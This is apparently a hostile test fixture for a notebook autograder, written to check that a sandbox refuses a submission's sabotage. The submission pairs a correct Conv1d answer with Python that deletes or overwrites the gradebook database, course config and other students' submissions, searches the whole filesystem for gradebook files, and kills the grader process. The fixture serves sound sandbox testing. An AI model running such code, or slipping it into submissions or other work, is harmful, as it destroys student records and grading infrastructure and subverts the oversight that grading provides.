# Hostile: a correct answer whose notebook tries to delete the gradebook, other students' submissions and the course
# config, to overwrite files up the tree, and to kill the grader. All refused; the answer keeps its full marks.
# tests/test_autograde.py checks the course folder is intact after grading.
# expect: test_predict=1 test_signature_weight=1 test_output_shape=1 test_values=2
# %% answer predict_answer
predicted_shape = (4, 8, 28)
# %% answer conv1d_answer
import os
import shutil

for attempt in (lambda: os.remove("../../../gradebook.db"), lambda: shutil.rmtree("../../../submitted"),
                lambda: open("../../../nbgrader_config.py", "w").write("c = get_config()\n"),
                lambda: os.kill(os.getppid(), 9)):
    try:
        attempt()
    except Exception:
        pass
import numpy as np
from numpy.lib.stride_tricks import sliding_window_view


class Conv1d:
    def __init__(self, in_channels, out_channels, kernel_size):
        self.weight = np.zeros((out_channels, in_channels, kernel_size))
        self.bias = None

    def forward(self, x):
        return np.einsum("nctk,ock->not", sliding_window_view(x, self.weight.shape[2], axis=2), self.weight)

    def __call__(self, x):
        return self.forward(x)
# %% append
import os, shutil, signal, time
targets = ["../../../gradebook.db", "../../../nbgrader_config.py", "../../../gradebook.db-journal"]
start = time.time()
for top, dirs, files in os.walk("/"):            # every gradebook this process can see
    dirs[:] = [d for d in dirs if not (top == "/" and d in ("proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin"))]
    targets += [os.path.join(top, f) for f in files if f in ("gradebook.db", "nbgrader_config.py")]
    if time.time() - start > 3:
        break
for path in targets:
    try:
        os.remove(path)
    except Exception as e:
        print("remove", path, e)
    try:
        with open(path, "w") as f:
            f.write("garbage")
    except Exception as e:
        print("overwrite", path, e)
for path in ("../../../submitted", "../../../solutions", "../../../autograded"):
    shutil.rmtree(path, ignore_errors=True)
for pid in (os.getppid(), os.getpgid(0)):
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception as e:
        print("kill", pid, e)
